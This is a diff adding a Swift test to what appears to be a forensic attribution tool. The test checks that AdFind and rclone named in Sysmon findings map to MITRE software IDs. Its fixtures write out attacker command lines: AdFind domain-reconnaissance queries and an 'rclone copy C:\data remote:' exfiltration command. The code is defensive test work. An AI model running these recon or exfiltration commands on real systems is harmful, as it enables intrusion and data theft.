@@ -175,6 +175,27 @@ struct StatementTests {
         ])
     }
 
+    @Test("programs and files findings name are software evidence, with the rule and field; Windows's own are not")
+    func softwareNamedByFindings() async throws {
+        let store = try await Self.store()
+        func finding(_ n: Int, rule: String, _ fields: [String: String]) -> CaseFinding {
+            CaseFinding(
+                timestamp: "2024-03-05T10:1\(n):00.000Z", computer: "ws1", channel: "Sysmon", eventID: "1", recordID: Int64(n),
+                ruleID: "r-\(n)", ruleTitle: rule, level: "high", techniques: ["T1087.002"], tactics: ["TA0007"], software: [], fields: fields,
+                evidence: "/cases/x.evtx", evidenceSHA256: String(repeating: "a", count: 64))
+        }
+        try await store.createCase(CaseInfo(name: "named", created: "2026-12-07T00:00:00Z", tlp: .amber))
+        try await store.addToCase("named", evidence: [], findings: [
+            finding(1, rule: "AdFind recon", ["Image": #"C:\ProgramData\AdFind.exe"#, "CommandLine": #"AdFind.exe -f objectcategory=computer"#]),
+            finding(2, rule: "AdFind recon", ["Image": #"C:\ProgramData\AdFind.exe"#, "CommandLine": #"AdFind.exe -sc trustdmp"#]),
+            finding(3, rule: "Exfiltration", ["Image": #"C:\Windows\System32\cmd.exe"#, "CommandLine": #"cmd /c C:\Users\Public\rclone.exe copy C:\data remote: & net use"#]),
+        ])
+        let observed = try await CaseAttribution.attribute(case: "named", store: store).result.evidence.observed
+        #expect(observed[.software("S0552")] == ["AdFind.exe in CommandLine, rule AdFind recon (2 findings)", "AdFind.exe in Image, rule AdFind recon (2 findings)"])
+        #expect(observed[.software("S1040")] == ["rclone.exe in CommandLine, rule Exfiltration (1 finding)"])
+        #expect(Set(observed.keys.filter { $0.kind == .software }) == [.software("S0552"), .software("S1040")])
+    }
+
     @Test("what a ceiling withholds is named, and the statement says it")
     func withheld() async throws {
         let store = try await Self.campaignCase("red", campaign: "C0024")
